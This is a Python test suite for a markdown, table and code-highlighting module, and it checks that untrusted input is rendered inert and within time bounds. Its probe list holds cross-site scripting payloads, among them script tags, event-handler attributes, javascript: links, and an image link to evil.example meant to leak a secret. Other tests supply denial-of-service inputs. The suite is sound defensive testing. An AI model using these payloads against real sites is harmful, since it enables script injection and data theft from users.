"""Untrusted text is inert, and what is harmless survives."""

from __future__ import annotations

import time
from collections.abc import Callable
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ui.markup import highlight, markdown, plain, table

SAFE_TAGS = {
    *("p", "div", "span", "br", "hr", "b", "strong", "i", "em", "s", "del", "sub", "sup", "small"),
    *("code", "pre", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote"),
    *("table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "a", "button"),
}
PROBES = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<div style="position:fixed;inset:0">cover</div>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=a></form>',
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/leak.png?secret)",
    "<a href='javascript:alert(1)'>x</a>",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|--|\n| <img src=x onerror=alert(1)> |",
    '[x](https://a.example "\\" onclick=alert(1) \\"")',
    "<!--<img src=x onerror=alert(1)>-->",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
]


class Audit(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("src", "srcdoc", "action", "id"):
                self.faults.append(f"{tag} {name}")
            if name == "style" and not (value or "").startswith("text-align:"):
                self.faults.append(f"{tag} style={value}")
            if name == "href" and not (value or "").startswith(("http:", "https:", "mailto:")):
                self.faults.append(f"{tag} href={value}")


@pytest.mark.parametrize("probe", PROBES)
def test_probes_are_inert(probe: str) -> None:
    assert Audit(markdown(probe)).faults == []
    assert Audit(table(probe) or "").faults == []
    assert Audit(f"<pre>{highlight(probe)}</pre>").faults == []


@settings(deadline=None)
@given(st.text() | st.lists(st.sampled_from(PROBES)).map("".join))
def test_any_text_is_inert(text: str) -> None:
    assert Audit(markdown(text)).faults == []
    assert Audit(table(text) or "").faults == []


def test_the_audit_itself_finds_what_is_wrong() -> None:
    for probe in PROBES[:7]:
        assert Audit(probe).faults != []


def test_markdown_keeps_what_people_write() -> None:
    html = markdown("**b** `c` [l](https://a.example)\n\n|a|b|\n|:-|-:|\n|1|2|\n\n- x")
    assert "<strong>b</strong>" in html
    assert '<a href="https://a.example" target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "text-align:right" in html.replace(" ", "")
    assert "<li>x</li>" in html
    assert "leak" not in markdown("![a plot](https://x.example/leak.png)")
    assert "a plot" in markdown("![a plot](https://x.example/leak.png)")


def test_tables_keep_their_cells_and_lose_their_style_sheets() -> None:
    html = table("<style>x</style><table border=1><tr><td colspan=2>1 &lt; 2</td></tr></table>")
    assert html == '<table><tbody><tr><td colspan="2">1 &lt; 2</td></tr></tbody></table>'
    assert table("<td>" * 200_000) is None


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("\x1b]8;;https://x\x07link\x1b]8;;\x07", "link"),
        ("10%\r50%\r100%\n", "100%\n"),
        ("a\r\nb", "a\nb"),
        ("bell\x07 null\x00", "bell null"),
        ("tab\tstays\n", "tab\tstays\n"),
    ],
)
def test_plain_text_is_what_a_terminal_leaves(raw: str, shown: str) -> None:
    assert plain(raw) == shown


def test_long_lines_cost_no_more_than_their_length() -> None:
    # Looked at once for each character, these would take hours.
    plain("x" * 500_000)
    plain("x\r" * 250_000)
    plain("\x1b]" * 250_000)


def test_code_is_highlighted_without_losing_a_character() -> None:
    class Text(HTMLParser):
        text = ""

        def handle_data(self, data: str) -> None:
            self.text += data

    code = "def f(a: int) -> str:\n    return f\"<{a}>\" + '&amp;'  # x\n\n\n"
    parsed = Text()
    parsed.feed(highlight(code))
    parsed.close()
    assert parsed.text == code
    assert '<span class="k">def</span>' in highlight(code)


@pytest.mark.parametrize(
    "text",
    [
        "![" * 1_000_000,
        "![" * 15_000,
        "[" * 30_000,
        "|".join("a" * 1250) + "\n" + "|".join("-" * 1250) + "\n" + "a\n" * 2500,
        "```x\n\n" * 5000,
        "```yaml\n" + "&a " * 9000,
        "```python\n" + "`" * 12_000 + "\n```\n" + "```python\n" + "`" * 12_000,
        "- a\n" * 7500,
        "**a*" * 7500,
        "&#" * 15_000,
    ],
    ids=lambda text: text[:9],
)
def test_no_markdown_keeps_the_server_from_others(text: str) -> None:
    markdown("warm")
    assert seconds(lambda: markdown(text)) < 0.35  # half of what the same takes without a bound


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 79_999,
        "<div>" * 12_000,
        "<a><b>" * 10_000,
        "<b><p></b></p>" * 4000,
        "<div></x>" * 7000,
        '<div a="</div>">' * 4000,
        "<b>x</i>" * 8000,
    ],
    ids=lambda html: html[:14],
)
def test_no_html_keeps_the_server_from_others(html: str) -> None:
    assert seconds(lambda: table(html)) < 0.35


def test_html_that_is_nested_too_deep_is_not_shown() -> None:
    assert table("<div>" * 100 + "x" + "</div>" * 100) is not None
    assert table("<div>" * 101 + "x" + "</div>" * 101) is None
    assert table("<DIV></p>" * 101) is None  # an end that fits nothing takes nothing back
    assert table("<p>a<br>b<hr></p>" * 200) is not None


def test_markdown_that_is_too_long_is_shown_as_it_is() -> None:
    for text in ("**x** <b>\n" * 5000, "![" * 15_000):
        html = markdown(text)
        assert "too long to be laid out" in html
        assert escape(text) in html
    assert "too long" not in markdown("A **word** and a [link](https://a.example).\n\n" * 150)


def test_half_characters_are_replaced() -> None:
    assert "\ufffd" in markdown("half \ud83d")
    assert "\ufffd" in (table("<p>half \ud83d</p>") or "")


def seconds(work: Callable[[], object]) -> float:
    """The processor time that it takes."""
    began = time.process_time()
    work()
    return time.process_time() - began
